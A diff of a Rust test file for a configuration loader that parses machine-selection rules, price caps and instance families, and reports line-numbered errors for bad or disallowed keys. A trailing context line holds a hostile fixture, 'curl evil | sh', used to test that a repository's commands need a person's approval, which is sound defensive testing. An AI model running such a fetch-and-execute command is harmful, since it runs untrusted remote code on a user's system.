@@ -115,6 +115,46 @@ fn agents_merge_field_by_field() -> Result<()> {
 }
 
 #[test]
+fn rules_and_prices_choose_machines_and_are_not_a_repositorys() -> Result<()> {
+    let place = Place::new(
+        "[auto]\nmax_price = 0.5\nfamily = \"m7g\"\n[[auto.rules]]\nmatch = \"gpu|cuda\"\n\
+         instance = \"g6.xlarge\"\n[[auto.rules]]\nmatch = \"suite\"\ninstance = \"m6i.8xlarge\"\n",
+        "",
+    )?;
+    let (config, problems) = place.read(|_| None);
+    assert!(problems.is_empty(), "{problems:?}");
+    assert_eq!(
+        config.auto_max_price(),
+        crate::model::Money::micros(500_000)
+    );
+    assert_eq!(config.auto_family(), "m7g");
+    let first = config
+        .auto_rules()
+        .iter()
+        .find(|r| r.matches("the CUDA suite"));
+    let told = first.map(|r| (r.instance.clone(), r.origin.to_string()));
+    let (instance, origin) = told.unwrap_or_default();
+    assert_eq!(instance, "g6.xlarge");
+    assert!(origin.ends_with("config.toml:4"), "{origin}");
+    let wrong = Place::new(
+        "[auto]\nmax_price = \"much\"\n[[auto.rules]]\nmatch = \"(\"\ninstance = \"x\"\n\
+         [[auto.rules]]\nmatch = \"x\"\n[[auto.rules]]\nmatsch = \"x\"\n",
+        "[auto]\nfamily = \"p5\"\n",
+    )?;
+    let all = wrong.read(|_| None).1.join("\n");
+    for told in [
+        "config.toml:2: `auto.max_price` must be an amount of dollars",
+        "config.toml:3: `auto.rules.match` is no regular expression",
+        "config.toml:6: a rule of `auto.rules` needs match and instance",
+        "config.toml:9: unknown key `auto.rules.matsch`",
+        ".remote.toml:2: `auto.family` is yours to set, not a repository's",
+    ] {
+        assert!(all.contains(told), "{told}\nnot in\n{all}");
+    }
+    Ok(())
+}
+
+#[test]
 fn a_repositorys_commands_need_a_persons_yes() -> Result<()> {
     let place = Place::new("check = \"mine\"\n", "setup = \"curl evil | sh\"\n")?;
     let (config, _) = place.read(|_| None);
